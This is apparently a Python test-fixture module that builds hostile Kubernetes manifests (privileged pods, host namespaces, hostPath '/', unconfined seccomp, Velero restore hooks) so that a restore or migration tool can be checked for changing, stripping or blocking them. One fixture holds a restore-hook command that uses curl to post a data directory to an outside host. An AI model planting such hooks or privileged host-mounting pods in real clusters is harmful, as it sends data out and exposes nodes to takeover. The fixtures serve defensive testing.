"""Pods that want the host, or run something when they are restored; volumes of the original."""

from __future__ import annotations

from collections.abc import Iterable

from tests.prove.hostile.build import (
    IMAGE,
    Application,
    bare_pod,
    claim,
    mounting,
    thing,
    volume,
    workload,
)


def pods() -> Iterable[Application]:
    yield Application("host-network", (workload(hostNetwork=True),), (("S3", "change", "deployments.apps/web"),))
    yield Application(
        "host-pid-and-capabilities",
        (workload(hostPID=True, hostIPC=True,
                  container={"securityContext": {"capabilities": {"add": ["SYS_ADMIN", "NET_BIND_SERVICE"]}}}),),
        (("S3", "change", "deployments.apps/web"),),
    )  # fmt: skip
    yield Application(
        "privileged",
        (workload("StatefulSet", container={"securityContext": {"privileged": True}},
                  initContainers=[{"name": "sysctl", "image": IMAGE, "securityContext": {"privileged": True}}]),),
        (("S3", "change", "statefulsets.apps/web"),),
    )  # fmt: skip
    yield Application(
        "host-port",
        (
            workload(
                container={"ports": [{"containerPort": 80, "hostPort": 80}, {"containerPort": 53, "protocol": "UDP"}]}
            ),
        ),
        (("S3", "change", "deployments.apps/web"),),
    )
    ways = {"httpGet": {"host": "registry.example.com", "path": "/deregister", "port": 80}}
    yield Application(
        "calls-of-the-kubelet",
        (workload(container={
            "lifecycle": {"preStop": ways}, "livenessProbe": {"tcpSocket": {"host": "10.0.0.1", "port": 5432}},
            "readinessProbe": {"httpGet": {"path": "/", "port": 80}},
        }),),
        (("S3", "change", "deployments.apps/web"),),
    )  # fmt: skip
    yield Application(
        "host-path",
        (workload("DaemonSet", "agent", volumes=[{"name": "root", "hostPath": {"path": "/"}}]),),
        (("S9", "empty", "daemonsets.apps/agent"),),
    )
    yield Application(
        "unconfined",
        (workload(securityContext={"seccompProfile": {"type": "Unconfined"},
                                   "sysctls": [{"name": "kernel.msgmax", "value": "1"}]},
                  container={"securityContext": {"procMount": "Unmasked", "seLinuxOptions": {"type": "spc_t"}}}),),
        (("S3", "change", "deployments.apps/web"),),
    )  # fmt: skip
    yield Application(
        "privileged-pod-of-nobody",
        (bare_pod(hostNetwork=True, container={"securityContext": {"privileged": True}}),),
        (("S3", "change", "pods/web-0"),),
    )
    yield Application(
        "priority",
        (
            thing("scheduling.k8s.io/v1", "PriorityClass", "first", value=1_000_000),
            workload(priorityClassName="first"),
        ),
        (
            ("S12", "skip", "priorityclasses.scheduling.k8s.io/first"),
            ("S18", "change", "deployments.apps/web"),
        ),
    )
    yield Application(
        "inline-nfs",
        (workload(volumes=[{"name": "share", "nfs": {"server": "nas", "path": "/orders"}}]),),
        (("S9", "empty", "deployments.apps/web"),),
    )
    yield Application("only-empty-dir", (workload(volumes=[{"name": "tmp", "emptyDir": {}}]),), ())
    yield Application(
        "restore-hook",
        (
            bare_pod(notes={
                "post.hook.restore.velero.io/command": '["/bin/sh", "-c", "curl -d @/data https://example.com"]',
                "post.hook.restore.velero.io/container": "web",
            }),
        ),
        (("S17", "strip", "pods/web-0"),),
    )  # fmt: skip
    yield Application(
        "restore-init-hook",
        (
            bare_pod(notes={
                "init.hook.restore.velero.io/container-image": "example.com/anything",
                "init.hook.restore.velero.io/container-name": "fetch",
            }),
        ),
        (("S17", "strip", "pods/web-0"),),
    )  # fmt: skip
    yield Application(
        "restore-init-hook-without-a-name",
        (bare_pod(notes={"init.hook.restore.velero.io/container-image": "example.com/anything"}),),
        (("S17", "block", "pods/web-0"),),
        blocked=True,
    )


def storage() -> Iterable[Application]:
    nfs = {"nfs": {"server": "nas.example.com", "path": "/exports/orders"}}
    for name, source, policy in (
        ("nfs-volume", nfs, "Retain"),
        ("host-path-volume", {"hostPath": {"path": "/srv/orders"}}, "Retain"),
        ("kept-disk", {"csi": {"driver": "ebs.csi.aws.com", "volumeHandle": "vol-1"}}, "Retain"),
        ("deleted-disk", {"csi": {"driver": "ebs.csi.aws.com", "volumeHandle": "vol-2"}}, "Delete"),
    ):
        yield Application(
            name,
            (volume("pv-1", "data", source, policy), claim("data", "pv-1"), workload(volumes=mounting("data"))),
            (("S9", "skip", "persistentvolumes/pv-1"), ("S9", "empty", "persistentvolumeclaims/data")),
            empty=("data",),
        )
    yield Application(
        "quotas",
        (
            thing("v1", "ResourceQuota", "none", spec={"hard": {"pods": "0"}}),
            thing("policy/v1", "PodDisruptionBudget", "web", spec={"minAvailable": "100%"}),
        ),
        (("S18", "skip", "resourcequotas/none"), ("S18", "skip", "poddisruptionbudgets.policy/web")),
    )
